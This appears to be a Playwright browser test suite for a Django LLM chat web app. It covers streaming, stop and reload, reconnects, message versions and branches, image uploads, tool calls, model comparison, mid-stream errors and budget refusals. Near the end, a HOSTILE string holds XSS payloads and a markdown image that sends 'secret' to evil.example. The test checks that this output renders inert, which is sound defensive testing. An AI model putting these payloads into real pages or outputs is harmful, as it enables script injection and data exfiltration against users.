"""The chat in a real browser: streaming, stop, reload, versions, branches, images, tools, compare, safety.

Replies come from the simulator; `echo:` makes a reply we can compare to, `[[sim ...]]` shapes its pace.
"""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import expect

from chat.conversations import create_conversation
from chat.models import Conversation, Message
from tests.browser.conftest import Tab
from tests.chat_pages.conftest import tiny_png
from tests.helpers.personas import PASSWORD

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

MODEL = "openai/gpt-4o-mini"
TEXT_ONLY = "openai/gpt-3.5-turbo"
LONG_ECHO = " ".join(f"word{i}" for i in range(60))


def open_chat(tab: Tab, user, model: str = MODEL, **settings) -> Conversation:
    conversation = create_conversation(user, model=model, **settings)
    tab.goto(f"/chat/{conversation.pk}/")
    expect(tab.page.locator("[data-conn]")).to_have_text("live")
    return conversation


def send(tab: Tab, text: str) -> None:
    prompt = tab.page.locator("#prompt")
    prompt.fill(text)
    prompt.press("Enter")


def last_reply(tab: Tab):
    return tab.page.locator("article.msg-assistant").last


def wait_done(tab: Tab, status: str = "complete"):
    reply = last_reply(tab)
    expect(reply).to_have_attribute("data-status", status)
    return reply


def test_it_signs_in_and_shows_the_empty_state(new_tab, owner, catalog):
    tab = new_tab()
    tab.goto("/chat/")
    expect(tab.page).to_have_url(re.compile(r"/login/"))
    tab.screenshot("login")
    tab.page.fill("input[name=username]", "olivia")
    tab.page.fill("input[name=password]", PASSWORD)
    tab.page.click("button[type=submit]")
    expect(tab.page.get_by_role("heading", name="No conversations yet")).to_be_visible()
    tab.screenshot("conversations-empty")
    assert tab.console_errors == []


def test_it_starts_a_chat_and_streams_the_reply(tab, owner):
    tab.goto("/chat/new/")
    tab.page.fill("[data-picker-search]", "llama 3.1 8b")
    matches = tab.page.locator("[data-model-row]:visible:not(:has(input:checked))")  # the chosen row stays
    expect(matches).to_have_count(1)
    expect(matches).to_contain_text("meta-llama/llama-3.1-8b-instruct")
    tab.page.fill("[data-picker-search]", "")
    tab.page.check("[data-filter=images]")
    expect(tab.page.locator('[data-model-row][data-images="0"]:visible')).to_have_count(0)
    tab.page.uncheck("[data-filter=images]")
    tab.screenshot("new-chat")
    tab.page.check(f'input[name=model][value="{MODEL}"]')
    tab.page.click("#start-chat")
    expect(tab.page.locator("[data-conn]")).to_have_text("live")

    send(tab, "Tell me something [[sim tokens=60 tps=40]]")
    reply = last_reply(tab)
    expect(reply).to_have_attribute("data-status", "streaming")
    expect(reply.locator("[data-live]")).not_to_be_empty()  # text shows while it streams
    wait_done(tab)
    expect(reply.locator("[data-meta]")).to_contain_text("tok/s")
    expect(reply.locator("[data-meta]")).to_contain_text("TTFT")
    expect(tab.page.locator("[data-conversation-cost]")).not_to_have_text("$0")
    expect(tab.page.locator("#spend [data-spent]")).not_to_have_text("$0")  # the header follows live
    tab.screenshot("conversation")
    tab.page.get_by_text("Settings", exact=True).click()
    expect(tab.page.get_by_role("button", name="Save settings")).to_be_visible()
    tab.screenshot("conversation-settings")
    stored = Message.objects.get(pk=reply.get_attribute("data-id"))
    assert reply.locator("[data-body]").inner_text().strip() == stored.content.strip()
    assert tab.console_errors == []


def test_it_stops_a_reply_with_escape_and_keeps_the_text(tab, owner):
    open_chat(tab, owner)
    send(tab, "Go on at length [[sim tokens=400 tps=25]]")
    reply = last_reply(tab)
    expect(reply.locator("[data-live]")).not_to_be_empty()
    tab.page.keyboard.press("Escape")
    wait_done(tab, "stopped")
    expect(reply.locator("[data-continue]")).to_be_visible()
    stored = Message.objects.get(pk=reply.get_attribute("data-id"))
    assert stored.status == "stopped"
    assert 0 < stored.completion_tokens < 400
    assert reply.locator("[data-body]").inner_text().strip() == stored.content.strip()


def test_a_reload_mid_stream_shows_the_whole_reply_in_every_tab(tab, new_tab, owner):
    conversation = open_chat(tab, owner)
    other = new_tab(signed_in_as=owner)
    other.goto(f"/chat/{conversation.pk}/")
    expect(other.page.locator("[data-conn]")).to_have_text("live")
    send(tab, f"echo: {LONG_ECHO} [[sim tps=40]]")
    expect(last_reply(tab).locator("[data-live]")).to_contain_text("word5")
    tab.page.reload()
    expect(last_reply(tab)).to_have_attribute("data-status", re.compile("streaming|complete"))
    wait_done(tab)
    wait_done(other)
    assert last_reply(tab).locator("[data-body]").inner_text().strip() == LONG_ECHO
    assert last_reply(other).locator("[data-body]").inner_text().strip() == LONG_ECHO


RECORD_LIVE_TEXT = """() => {
  window.lastLiveText = "";
  new MutationObserver(() => {
    const live = document.querySelector("#transcript article.msg-assistant:last-child [data-live]");
    if (live) window.lastLiveText = live.textContent;
  }).observe(document.getElementById("transcript"), {childList: true, subtree: true, characterData: true});
}"""


def test_a_dropped_socket_reconnects_and_fills_the_gap(tab, owner):
    open_chat(tab, owner)
    tab.page.evaluate(RECORD_LIVE_TEXT)  # the streamed text as last seen, before "done" swaps in the HTML
    send(tab, f"echo: {LONG_ECHO} [[sim tps=40]]")
    expect(last_reply(tab).locator("[data-live]")).to_contain_text("word3")
    tab.page.evaluate("window.orwebChat[0].ws.close()")
    expect(tab.page.locator("[data-conn]")).to_have_text(re.compile("reconnecting|connecting"))
    wait_done(tab)
    # What streamed in covers the time the socket was down: every delta once, in order.
    assert tab.page.evaluate("window.lastLiveText") == LONG_ECHO
    assert last_reply(tab).locator("[data-body]").inner_text().strip() == LONG_ECHO


def test_it_regenerates_and_switches_versions(tab, owner):
    open_chat(tab, owner)
    send(tab, "echo: first answer")
    wait_done(tab)
    last_reply(tab).locator("[data-regenerate]").click()
    expect(last_reply(tab).locator("[data-version-label]")).to_have_text("2/2")
    wait_done(tab)
    last_reply(tab).get_by_role("button", name="Previous version").click()
    expect(last_reply(tab).locator("[data-version-label]")).to_have_text("1/2")
    expect(tab.page.locator("article.msg")).to_have_count(2)
    tab.screenshot("versions")
    tab.goto("/chat/")
    expect(tab.page.locator(".convo-item")).to_have_count(1)
    tab.screenshot("conversations")


def test_it_edits_a_message_into_a_new_branch(tab, owner):
    open_chat(tab, owner)
    send(tab, "echo: apple")
    wait_done(tab)
    user_message = tab.page.locator("article.msg-user").last
    user_message.locator("[data-edit]").click()
    editor = user_message.locator(".editor textarea")
    expect(editor).to_have_value("echo: apple")
    editor.fill("echo: banana")
    editor.press("Enter")
    wait_done(tab)
    expect(last_reply(tab).locator("[data-body]")).to_have_text("banana")
    edited = tab.page.locator("article.msg-user").last
    expect(edited.locator("[data-version-label]")).to_have_text("2/2")
    edited.get_by_role("button", name="Previous version").click()
    expect(last_reply(tab).locator("[data-body]")).to_have_text("apple")
    expect(tab.page.locator("article.msg-user").last.locator("[data-version-label]")).to_have_text("1/2")


def test_it_sends_an_image_to_an_image_model(new_tab, owner, catalog, tmp_path):
    tab = new_tab(signed_in_as=owner, width=390, height=844)  # a phone
    open_chat(tab, owner)
    image = tmp_path / "dot.png"
    image.write_bytes(tiny_png(48, 32))
    tab.page.set_input_files("[data-attach]", str(image))
    expect(tab.page.locator("[data-files] .file-chip")).to_contain_text("dot.png")
    send(tab, "What is in this picture? [[sim tokens=8]]")
    wait_done(tab)
    picture = tab.page.locator("article.msg-user .msg-attachments img")
    expect(picture).to_have_count(1)
    assert picture.evaluate("img => img.complete && img.naturalWidth") == 48
    tab.screenshot("image-phone")


def test_a_text_only_model_refuses_an_image_before_any_call(tab, owner, tmp_path, simulator):
    open_chat(tab, owner, model=TEXT_ONLY)
    image = tmp_path / "dot.png"
    image.write_bytes(tiny_png())
    tab.page.set_input_files("[data-attach]", str(image))
    expect(tab.page.locator("[data-files] .file-chip")).to_be_visible()
    requests_before = simulator.stats()
    send(tab, "What is this?")
    expect(tab.page.locator("[data-alert]")).to_contain_text("reads text only")
    expect(tab.page.locator("#prompt")).to_have_value("What is this?")  # the draft comes back
    expect(tab.page.locator("[data-files] .file-chip")).to_be_visible()
    assert tab.page.locator("article.msg").count() == 0
    assert simulator.stats() == requests_before


def test_it_shows_a_tool_call_and_its_result(new_tab, owner, catalog):
    tab = new_tab(signed_in_as=owner, color_scheme="dark")
    open_chat(tab, owner, tools=["calculator"])
    send(tab, 'call:calculator({"expression": "6*7"})')
    reply = wait_done(tab)
    call = reply.locator(".tool-call")
    expect(call.locator(".tool-name")).to_have_text("calculator")
    call.locator("summary").click()
    expect(call.locator(".tool-result")).to_contain_text("42")
    expect(reply.locator("[data-body]")).to_contain_text("42")
    tab.screenshot("tool-call-dark")


def test_it_compares_two_models_side_by_side(tab, owner):
    tab.goto("/chat/compare/")
    tab.page.fill("textarea[name=prompt]", "echo: Hello from both columns [[sim tps=50]]")
    tab.page.check(f'input[name=models][value="{MODEL}"]')
    tab.page.check('input[name=models][value="meta-llama/llama-3.1-8b-instruct"]')
    tab.screenshot("compare-form")
    tab.page.click("#start-compare")
    columns = tab.page.locator("[data-compare]")
    expect(columns).to_have_count(2)
    for i in range(2):
        reply = columns.nth(i).locator("article.msg-assistant")
        expect(reply).to_have_attribute("data-status", "complete")
        expect(reply.locator("[data-body]")).to_have_text("Hello from both columns")
        expect(reply.locator("[data-meta]")).to_contain_text("TTFT")
        expect(reply.locator("[data-meta]")).to_contain_text("tok/s")
    tab.screenshot("compare")
    columns.nth(1).get_by_role("button", name="Continue with this one").click()
    expect(tab.page.locator("[data-title], h1").first).to_be_visible()
    expect(tab.page).to_have_url(re.compile(r"/chat/\d+/$"))
    expect(tab.page.locator("article.msg")).to_have_count(2)


HOSTILE = (
    "echo: <img src=x onerror=alert(1)> <script>alert(2)</script> [click me](javascript:alert(3)) "
    '![x](https://evil.example/?q=secret) <a href="https://evil.example" onclick=alert(4)>a</a>'
)


def test_hostile_model_output_renders_inert(tab, owner):
    open_chat(tab, owner)
    send(tab, HOSTILE + " [[sim tps=40]]")
    reply = wait_done(tab)
    body = reply.locator("[data-body]")
    expect(body).to_contain_text("<script>alert(2)</script>")  # shown as text, not markup
    assert body.locator("script, img, [onerror], [onclick]").count() == 0
    assert body.locator('a[href^="javascript:"]').count() == 0
    tab.page.reload()
    expect(last_reply(tab)).to_have_attribute("data-status", "complete")
    last_reply(tab).get_by_text("click me").click()
    tab.screenshot("hostile-output")
    assert tab.dialogs == []
    assert "evil.example" not in tab.hosts
    assert tab.page.locator("#transcript script").count() == 0


def test_a_mid_stream_error_is_shown_and_the_reply_can_continue(tab, owner, simulator):
    open_chat(tab, owner)
    simulator.fault(MODEL, "error_after=5")
    send(tab, "Start talking [[sim tokens=40]]")
    reply = wait_done(tab, "error")
    expect(reply.locator("[data-error]")).to_be_visible()
    assert reply.locator("[data-error]").inner_text().strip() != ""
    assert reply.locator("[data-body]").inner_text().strip() != ""  # the partial text is kept
    simulator.control("DELETE", "faults")
    reply.locator("[data-continue]").click()
    wait_done(tab)
    expect(reply.locator("[data-error]")).to_be_hidden()


def test_a_message_the_budget_cannot_cover_is_refused_with_the_budget_named(tab, owner, simulator):
    from decimal import Decimal

    from billing.budgets import set_budget

    set_budget(user=owner, amount=Decimal("0.000001"), period="day")
    open_chat(tab, owner, model="openai/gpt-4o")
    requests_before = simulator.stats()
    send(tab, "Write me a long essay")
    notice = tab.page.locator("[data-composer] [data-notice]")
    expect(notice).to_be_visible()
    expect(notice).to_contain_text(re.compile("budget", re.I))
    expect(notice).to_contain_text("olivia")
    # Not a failed turn: no reply with "0 in / 0 out", and the message is back in the composer to send again.
    expect(tab.page.locator("article.msg")).to_have_count(0)
    expect(tab.page.locator("#prompt")).to_have_value("Write me a long essay")
    tab.screenshot("chat-refusal-notice")
    tab.page.wait_for_timeout(300)
    expect(notice).to_be_visible()  # it stays until dismissed
    notice.get_by_role("button", name="Dismiss this notice").click()
    expect(notice).to_be_hidden()
    assert simulator.stats() == requests_before
